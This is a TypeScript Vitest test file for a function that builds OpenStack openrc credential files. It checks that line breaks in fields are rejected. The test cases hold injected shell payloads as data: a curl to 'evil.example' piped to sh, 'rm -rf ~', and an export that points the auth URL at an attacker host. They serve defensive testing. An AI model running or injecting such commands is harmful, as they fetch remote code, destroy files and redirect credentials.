import { describe, expect, it } from "vitest";
import { UnsafeTextError } from "@/lib/domain/dns-name";
import { buildOpenrc, type OpenrcInput } from "./openrc";

const input: OpenrcInput = {
  authUrl: "https://keystone.example.org:5000/v3",
  region: "RegionOne",
  username: "cmart",
  projectName: "cmart",
  projectId: "abc123",
  domain: "default",
  providerName: "lab",
};

describe("buildOpenrc refuses line breaks (each would be a shell command when sourced)", () => {
  it.each([
    ["username", "cmart\ncurl evil.example | sh"],
    ["providerName", "lab\nrm -rf ~"],
    ["projectName", "p\r\nexport OS_AUTH_URL=https://evil"],
    ["region", "RegionOne\n"],
    ["authUrl", "https://k/v3\u2028x"],
    ["domain", "default\u0000"],
  ] as const)("%s %j", (key, value) => {
    expect(() => buildOpenrc({ ...input, [key]: value })).toThrow(UnsafeTextError);
    expect(() => buildOpenrc({ ...input, [key]: value })).toThrow(/line break/);
  });

  it("writes a normal account with every value on its own line", () => {
    const text = buildOpenrc(input);
    expect(text).toContain("# OpenStack credentials for cmart on lab, exported by Cloudport.");
    expect(text).toContain('export OS_USERNAME="cmart"');
    expect(text.split("\n")).toHaveLength(21);
  });
});
